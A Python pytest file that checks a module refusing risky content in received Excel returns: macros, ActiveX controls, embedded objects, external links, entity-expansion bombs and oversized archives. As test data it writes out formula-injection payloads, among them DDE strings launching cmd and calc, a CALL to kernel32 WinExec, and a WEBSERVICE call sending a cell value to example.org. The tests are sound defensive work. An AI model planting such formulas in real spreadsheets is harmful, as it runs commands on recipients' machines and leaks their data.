"""A file that came is read only where it is harmless."""

from __future__ import annotations

from pathlib import Path
from tempfile import TemporaryDirectory

import openpyxl
import pytest

from tests.returns.offices import Filling, Office, changed_part, forms, with_part
from xlperf.excel.file import FileWorkbook
from xlperf.returns import form_places as places
from xlperf.returns.received_file import RefusedFileError, harm_in_formula, read_received


@pytest.fixture(scope="module")
def form():
    with TemporaryDirectory() as folder:
        path = Office().owes("North", "reports").file(Path(folder))
        return forms(FileWorkbook.open(path))["North"]


@pytest.fixture(scope="module")
def good(form):
    return Filling(form).all(10, 20, 30, 40, 100, seen=None).bytes()


def refused(data: bytes) -> str:
    with pytest.raises(RefusedFileError) as raised:
        read_received("Return.xlsx", data, places.SHEET)
    return str(raised.value)


def test_values_formats_merges_and_comments_are_read(form):
    filled = Filling(form).all(10, 20, seen=None)
    filled.sheet["F13"].number_format = "0%"
    filled.sheet["F14"] = "=1+1"
    filled.sheet["K12"].comment = openpyxl.comments.Comment("Why?", "Somebody")
    filled.sheet.merge_cells("K14:K15")
    sheet = read_received("Return.xlsx", filled.bytes(), places.SHEET)
    assert sheet.at(12, 6).value == 10
    assert sheet.at(13, 6).is_percent
    assert sheet.at(14, 6).is_formula
    assert sheet.comments["K12"].endswith("Why?")
    assert [str(area) for area in sheet.merged] == ["K14:K15"]
    assert sheet.at(99, 99).value is None


@pytest.mark.parametrize(
    ("part", "what"),
    [
        ("xl/vbaProject.bin", "macros"),
        ("xl/macrosheets/sheet1.xml", "macros"),
        ("xl/activeX/activeX1.bin", "controls"),
        ("xl/ctrlProps/ctrlProp1.xml", "controls"),
        ("xl/embeddings/oleObject1.bin", "another file within it"),
        ("xl/externalLinks/externalLink1.xml", "links to other workbooks"),
        ("xl/connections.xml", "connections"),
        ("xl/queryTables/queryTable1.xml", "connections"),
        ("xl/model/item.data", "a data model"),
        ("customUI/customUI14.xml", "menus of its own"),
        ("xl/dialogsheets/sheet1.xml", "dialogs"),
        ("XL/VBAPROJECT.BIN", "macros"),
    ],
)
def test_parts_that_could_do_something_are_refused(good, part, what):
    assert what in refused(with_part(good, part, b"<x/>"))


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|' /C calc'!A0",
        "MSEXCEL|'\\..\\..\\Windows\\cmd.exe'!''",
        'WEBSERVICE("http://example.org/"&A1)',
        "[1]Sheet1!A1",
        "'C:\\data\\[other.xlsx]Sheet'!A1",
        'HYPERLINK("http://example.org","x")',
        'CALL("kernel32","WinExec","JCJ","calc",0)',
        'IF(1,RTD("server",,"topic"),0)',
    ],
)
def test_formulas_that_reach_out_are_refused(form, formula):
    assert harm_in_formula(formula)
    filled = Filling(form).all(10, 20, 30, 40, seen=None)
    filled.sheet["F16"] = f"={formula}"
    assert "a formula that" in refused(filled.bytes())


@pytest.mark.parametrize(
    "formula", ["SUM(F12:F15)", 'IF(A1>0,"a|b!c",0)', "tblA[Count]", 'A1&"[1]"']
)
def test_formulas_that_only_calculate_are_not_harmful(formula):
    assert harm_in_formula(formula) == ""


def test_names_that_run_macros_are_refused(good):
    def named(data: bytes) -> bytes:
        name = b'<definedNames><definedName name="_xlnm.Auto_Open">Return!$A$1</definedName>'
        return data.replace(b"<definedNames>", name, 1)

    assert "a name that runs a macro" in refused(changed_part(good, "xl/workbook.xml", named))


def test_links_out_of_the_file_are_refused_but_for_those_of_words(good):
    relation = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r9" Type="http://x/%s" Target="http://example.org/" TargetMode="External"/>'
        b"</Relationships>"
    )
    part = "xl/worksheets/_rels/sheet2.xml.rels"
    assert "(oleObject)" in refused(with_part(good, part, relation % b"oleObject"))
    read_received("Return.xlsx", with_part(good, part, relation % b"hyperlink"), places.SHEET)


@pytest.mark.parametrize(
    "part", ["xl/worksheets/sheet1.xml", "xl/theme/theme1.xml", "xl/styles.xml"]
)
def test_entities_are_refused(good, part):
    def bomb(data: bytes) -> bytes:
        head, close, rest = data.partition(b"?>") if data.startswith(b"<?xml") else (b"", b"", data)
        return head + close + b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>' + rest

    assert "document type" in refused(changed_part(good, part, bomb))


def test_a_file_that_unpacks_to_more_than_a_return_is_refused(good):
    assert "unpacks to" in refused(with_part(good, "xl/media/image1.png", bytes(70_000_000)))
    assert "MB" in refused(bytes(6_000_000))


def test_merged_cells_over_a_whole_sheet_take_no_time(good):
    def merged(data: bytes) -> bytes:
        return data.replace(
            b"</sheetData>",
            b'</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
        )

    sheet = read_received(
        "R.xlsx", changed_part(good, "xl/worksheets/sheet1.xml", merged), "Return"
    )
    assert len(sheet.merged) == 1


@pytest.mark.parametrize("length", range(0, 6000, 371))
def test_a_file_that_is_cut_short_is_refused_in_one_sentence(good, length):
    assert refused(good[:length]).count("\n") == 0
